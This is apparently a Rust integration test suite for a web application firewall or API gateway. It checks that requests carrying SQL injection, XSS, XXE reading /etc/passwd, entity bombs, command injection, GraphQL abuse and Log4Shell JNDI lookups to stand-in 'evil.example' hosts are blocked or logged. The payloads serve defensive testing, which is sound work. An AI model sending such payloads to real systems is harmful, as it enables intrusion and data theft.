//! Attack inspection through the real binary: injections refused (or
//! recorded in monitor mode), exclusions and schema hints, GraphQL limits,
//! introspection and suggestion masking, XML and SOAP protections, headers
//! (custom ones, an unverified `Authorization`), attack tools' user agents
//! and base64 (`format: byte`) fields.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use serde_json::{Value, json};
use support::*;

const SPEC: &str = r#"
openapi: 3.0.3
info: {title: shop, version: "1"}
security: [{}, {Basic: []}]
paths:
  /items:
    get:
      operationId: searchItems
      parameters:
        - {name: q, in: query, schema: {type: string}}
        - {name: sort, in: query, schema: {type: string, enum: [name, "name' OR '1'='1"]}}
      responses: {"200": {description: ok}}
    post:
      operationId: createNote
      requestBody:
        content:
          application/json:
            schema:
              type: object
              properties:
                title: {type: string}
                html: {type: string}
                attachment: {type: string, format: byte}
      responses: {"200": {description: ok}}
  /graphql:
    post:
      operationId: graphql
      requestBody: {content: {application/json: {}, application/graphql: {}}}
      responses: {"200": {description: ok}}
  /upload:
    post:
      operationId: upload
      requestBody: {content: {multipart/form-data: {}}}
      responses: {"200": {description: ok}}
  /soap:
    post:
      operationId: soap
      requestBody: {content: {text/xml: {}}}
      responses: {"200": {description: ok}}
components:
  securitySchemes:
    Basic: {type: http, scheme: basic}
"#;

async fn start(extra: &str) -> (tempfile::TempDir, Upstream, Moat) {
    let up = upstream(None).await;
    let dir = tempdir();
    write(dir.path(), "spec.yaml", SPEC);
    let h = hash_password("pw");
    let cfg = format!(
        "{}consumers:\n  - id: alice\n    basic: {{username: alice, password_hash: \"{h}\"}}\n  - id: root\n    roles: [admin]\n    basic: {{username: root, password_hash: \"{h}\"}}\n",
        config(
            &up.url(),
            &format!("    security:\n      Basic: {{type: basic}}\n{extra}")
        )
    );
    write(dir.path(), "moat.yaml", &cfg);
    let moat = Moat::start(dir.path());
    (dir, up, moat)
}

/// Percent-encodes everything but unreserved characters.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn problem(r: reqwest::Response) -> (u16, Value) {
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

#[tokio::test]
async fn injections_are_refused_and_benign_text_passes() {
    let (_dir, up, moat) = start("").await;
    let c = client();
    let get = |q: &str| c.get(moat.url(&format!("/items?q={}", enc(q)))).send();
    for benign in [
        "O'Brien",
        "select the best plan and update me",
        "a < b and c > d",
    ] {
        assert_eq!(get(benign).await.unwrap().status(), 200, "{benign}");
    }
    let (status, p) = problem(get("1' OR '1'='1' --").await.unwrap()).await;
    assert_eq!(status, 403);
    assert_eq!(p["type"], "urn:moat:problem:attack-detected");
    assert!(!p.to_string().contains("OR '1'"), "no payload echoed: {p}");
    let r = c
        .post(moat.url("/items"))
        .json(&json!({"title": "hi", "html": "<script>alert(document.cookie)</script>"}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(up.hits(), 3, "refused requests never reach the upstream");
    moat.wait_stderr("attack refused").await;
    assert!(moat.stderr().contains("sqli@query:q"), "{}", moat.stderr());
    // Schema hints: an enum-checked value is not second-guessed.
    let r = c
        .get(moat.url(&format!("/items?sort={}", enc("name' OR '1'='1"))))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
}

#[tokio::test]
async fn exclusions_and_monitor_mode() {
    let extra = "    inspection:\n      exclusions:\n        - {operations: [createNote], locations: [\"body:/html\"], detectors: [xss]}\n";
    let (_dir, _up, moat) = start(extra).await;
    let c = client();
    let post = |body: Value| c.post(moat.url("/items")).json(&body).send();
    let html = "<img src=x onerror=alert(1)>";
    assert_eq!(post(json!({"html": html})).await.unwrap().status(), 200);
    assert_eq!(post(json!({"title": html})).await.unwrap().status(), 403);

    let (_dir2, up2, monitor) = start("    mode: monitor\n").await;
    let r = c
        .get(monitor.url(&format!(
            "/items?q={}",
            enc("1 UNION SELECT password FROM users--")
        )))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up2.hits(), 1);
    let line = monitor
        .wait_log(|l| l["finding"] == "attack-detected")
        .await;
    assert_eq!(line["verdict"], "monitored");
    // The log line may reach stderr after the access log line.
    monitor
        .wait_stderr("attack detected (monitor mode: forwarded)")
        .await;
}

async fn gql(moat: &Moat, user: Option<&str>, body: Value) -> (u16, Value) {
    let mut r = client().post(moat.url("/graphql")).json(&body);
    if let Some(u) = user {
        r = r.basic_auth(u, Some("pw"));
    }
    problem(r.send().await.unwrap()).await
}

#[tokio::test]
async fn graphql_limits_introspection_and_suggestions() {
    let extra = "    inspection:\n      graphql: {max_depth: 5, max_aliases: 3, max_operations_per_batch: 2, introspection_roles: [admin]}\n";
    let (_dir, _up, moat) = start(extra).await;
    let ok = json!({"query": "query U($id: ID!) { user(id: $id) { name ...F } } fragment F on User { email }", "variables": {"id": "1"}});
    assert_eq!(gql(&moat, None, ok).await.0, 200);
    let cases = [
        (
            json!({"query": "{ a { b { c { d { e { f } } } } } }"}),
            "max_depth",
        ),
        (
            json!({"query": "{ a1: user { name } a2: user { name } a3: user { name } a4: user { name } }"}),
            "max_aliases",
        ),
        (
            json!([{"query": "{ a }"}, {"query": "{ b }"}, {"query": "{ c }"}]),
            "max_operations",
        ),
        (
            json!({"query": "{ __schema { types { name } } }"}),
            "introspection",
        ),
        (
            json!({"query": "{ ...A } fragment A on Query { ...B } fragment B on Query { ...A }"}),
            "circular_fragment",
        ),
        (json!({"query": "{ user { "}), "syntax"),
    ];
    for (body, rule) in cases {
        let (status, p) = gql(&moat, None, body).await;
        assert_eq!(status, 400, "{rule}");
        assert_eq!(p["type"], "urn:moat:problem:graphql-rejected", "{rule}");
        assert_eq!(p["detail"], rule);
    }
    // Introspection for the admin role only.
    let intro = json!({"query": "{ __schema { types { name } } }"});
    assert_eq!(gql(&moat, Some("alice"), intro.clone()).await.0, 400);
    assert_eq!(gql(&moat, Some("root"), intro).await.0, 200);
    // Injections in arguments and variables are inspected.
    let sqli = json!({"query": "query($q: String) { search(q: $q) { id } }", "variables": {"q": "x' UNION SELECT password FROM users--"}});
    assert_eq!(gql(&moat, None, sqli).await.0, 403);
    // Field suggestions are removed from error answers.
    let (status, answer) = gql(&moat, None, json!({"query": "{ user { nme } }"})).await;
    assert_eq!(status, 200);
    let message = answer["errors"][0]["message"].as_str().unwrap();
    assert!(message.contains("Cannot query field"), "{message}");
    assert!(!message.contains("Did you mean"), "{message}");
}

#[tokio::test]
async fn persisted_queries_only() {
    let query = "{ user { name } }";
    let hash = moat_inspect::graphql::query_hash(query);
    let extra = format!("    inspection:\n      graphql: {{persisted_queries: [\"{hash}\"]}}\n");
    let (_dir, _up, moat) = start(&extra).await;
    assert_eq!(gql(&moat, None, json!({"query": query})).await.0, 200);
    let (status, p) = gql(&moat, None, json!({"query": "{ user { email } }"})).await;
    assert_eq!(
        (status, p["detail"].as_str()),
        (400, Some("persisted_query"))
    );
}

async fn soap(moat: &Moat, action: &str, body: &str) -> (u16, Value) {
    problem(
        client()
            .post(moat.url("/soap"))
            .header("content-type", "text/xml; charset=utf-8")
            .header("soapaction", action)
            .body(body.to_string())
            .send()
            .await
            .unwrap(),
    )
    .await
}

const ENVELOPE: &str = r#"<?xml version="1.0" encoding="utf-8"?>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
  <soap:Body><GetUser xmlns="urn:shop"><id>42</id><name>O'Brien &amp; sons</name></GetUser></soap:Body>
</soap:Envelope>"#;

#[tokio::test]
async fn xml_and_soap_protections() {
    let (_dir, up, moat) = start("").await;
    assert_eq!(soap(&moat, "\"urn:shop#GetUser\"", ENVELOPE).await.0, 200);
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"#;
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    let deep = format!("{}{}", "<a>".repeat(100), "</a>".repeat(100));
    for (body, rule) in [
        (laughs.to_string(), "doctype"),
        (xxe.to_string(), "doctype"),
        (deep, "max_depth"),
    ] {
        let (status, p) = soap(&moat, "", &body).await;
        assert_eq!(status, 400, "{rule}");
        assert_eq!(p["type"], "urn:moat:problem:xml-rejected");
        assert_eq!(p["detail"], rule);
    }
    // The action must name the operation in the body.
    let (status, p) = soap(&moat, "\"urn:shop#DeleteUser\"", ENVELOPE).await;
    assert_eq!((status, p["detail"].as_str()), (400, Some("soap_action")));
    // Text values are inspected.
    let injected = ENVELOPE.replace("<id>42</id>", "<id>42; cat /etc/passwd</id>");
    assert_eq!(soap(&moat, "", &injected).await.0, 403);
    assert_eq!(up.hits(), 1);
}

#[tokio::test]
async fn multipart_fields_are_inspected_but_files_are_not() {
    let (_dir, up, moat) = start("").await;
    let form = |caption: &str| {
        format!(
            "--b0undary\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n{caption}\r\n--b0undary\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"cat.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{ff}\u{d8}' OR '1'='1\r\n--b0undary--\r\n"
        )
    };
    let post = |body: String| {
        client()
            .post(moat.url("/upload"))
            .header("content-type", "multipart/form-data; boundary=b0undary")
            .body(body)
            .send()
    };
    assert_eq!(post(form("My cat, O'Malley")).await.unwrap().status(), 200);
    let r = post(form("<script>alert(1)</script>")).await.unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(up.hits(), 1);
}

#[tokio::test]
async fn every_header_but_transport_and_consumed_credentials_is_inspected() {
    let (_dir, up, moat) = start("").await;
    let c = client();
    let get = |name: &'static str, value: &'static str| {
        c.get(moat.url("/items?q=shoes")).header(name, value).send()
    };
    // Custom client headers and Accept-Language carry payloads too.
    for (name, value) in [
        ("x-client-version", "4.2.1' OR '1'='1' -- "),
        ("accept-language", "en-US,en;q=0.9' AND SLEEP(5)-- -"),
        ("x-request-id", "${jndi:ldap://log.evil.example:1389/a}"),
    ] {
        let (status, p) = problem(get(name, value).await.unwrap()).await;
        assert_eq!(status, 403, "{name}: {p}");
    }
    moat.wait_stderr("sqli@header:x-client-version").await;
    // Ordinary values of the same headers pass.
    for (name, value) in [
        ("x-client-version", "4.12.0 (build 2291; iOS 17.4.1)"),
        ("accept-language", "de-DE,de;q=0.9,en;q=0.8"),
        (
            "sec-ch-ua",
            "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"",
        ),
    ] {
        assert_eq!(get(name, value).await.unwrap().status(), 200, "{name}");
    }
    // An Authorization header no verifier read (this operation allows
    // anonymous access, and a bearer token is not the Basic scheme's
    // credential) is a value like any other.
    let r = c
        .get(moat.url("/items?q=shoes"))
        .header("authorization", "Bearer ${jndi:ldap://evil.example/a}")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    moat.wait_stderr("jndi@header:authorization").await;
    // Verified credentials are consumed, not inspected.
    let r = c
        .get(moat.url("/items?q=shoes"))
        .basic_auth("alice", Some("pw"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up.hits(), 4);

    // `inspection.headers.exclude` leaves a header out.
    let extra = "    inspection:\n      headers: {exclude: [X-Client-Version]}\n";
    let (_dir2, _up2, excluding) = start(extra).await;
    let r = c
        .get(excluding.url("/items?q=shoes"))
        .header("x-client-version", "4.2.1' OR '1'='1' -- ")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r = c
        .get(excluding.url("/items?q=shoes"))
        .header("x-device-name", "<script>alert(1)</script>")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
}

#[tokio::test]
async fn attack_tools_are_flagged_or_blocked() {
    const SQLMAP: &str = "sqlmap/1.7.2#stable (https://sqlmap.org)";
    let (_dir, up, moat) = start("").await;
    let c = client();
    let r = c
        .get(moat.url("/items?q=shoes"))
        .header("user-agent", SQLMAP)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "flagged, not refused, by default");
    assert_eq!(up.hits(), 1);
    let line = moat.wait_log(|l| l["finding"] == "attack-suspected").await;
    assert_eq!(line["status"], 200, "{line}");
    moat.wait_stderr("attack_tool").await;

    let (_dir2, up2, blocking) = start("    inspection: {attack_tools: block}\n").await;
    let r = c
        .get(blocking.url("/items?q=shoes"))
        .header("user-agent", SQLMAP)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let r = c
        .get(blocking.url("/items?q=shoes"))
        .header(
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        )
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up2.hits(), 1);
}

#[tokio::test]
async fn base64_fields_are_decoded_and_inspected() {
    use base64::Engine as _;
    let b64 = |s: &[u8]| base64::engine::general_purpose::STANDARD.encode(s);
    let (_dir, up, moat) = start("").await;
    let c = client();
    let post = |body: Value| c.post(moat.url("/items")).json(&body).send();
    let r = post(json!({"attachment": b64(b"<script>alert(document.cookie)</script>")}))
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    moat.wait_stderr("xss@body:/attachment").await;
    let r = post(json!({"attachment": b64(b"1' UNION SELECT password FROM users--")}))
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    // Text and binary content that is no attack pass.
    let r = post(json!({"attachment": b64(b"Meeting notes: bring the Q3 figures.")}))
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let r =
        post(json!({"attachment": b64(&[0x89, b'P', b'N', b'G', 0x0d, 0x0a, 0x1a, 0x0a, 0xff])}))
            .await
            .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(up.hits(), 2);
}
